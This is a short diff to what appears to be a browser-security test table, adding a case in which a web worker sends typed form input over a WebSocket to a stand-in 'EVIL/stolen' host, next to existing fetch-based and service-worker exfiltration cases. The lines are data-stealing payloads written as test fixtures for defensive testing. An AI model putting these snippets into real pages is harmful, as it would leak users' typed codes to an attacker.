@@ -83,6 +83,7 @@ PERMISSIONS = (
 WORKERS = (
     leads("a worker that fetches", worker("fetch('EVIL/stolen?'+e.data,{mode:'no-cors'})"), (fill("Code"),)),
     leads("a worker that posts", worker("fetch('EVIL/stolen',{method:'POST',mode:'no-cors',body:e.data})"), (fill("Code"),)),
+    leads("a worker with a WebSocket", worker("new WebSocket('EVIL/stolen?'.replace('http','ws')+e.data)"), (fill("Code"),)),
     Case("a service worker", "<label>Code <input oninput=\"if(value.length>11)navigator.serviceWorker.ready.then(r=>r.active.postMessage(value))\"></label><script>navigator.serviceWorker.register('/sw.js')</script>", (fill("Code"),), " evil.localhost /", "<button onclick=\"navigator.serviceWorker.register('/sw.js').finally(()=>fetch('SHOP/fine'))\">Go</button>", "/fine", GO),
 )  # fmt: skip
 
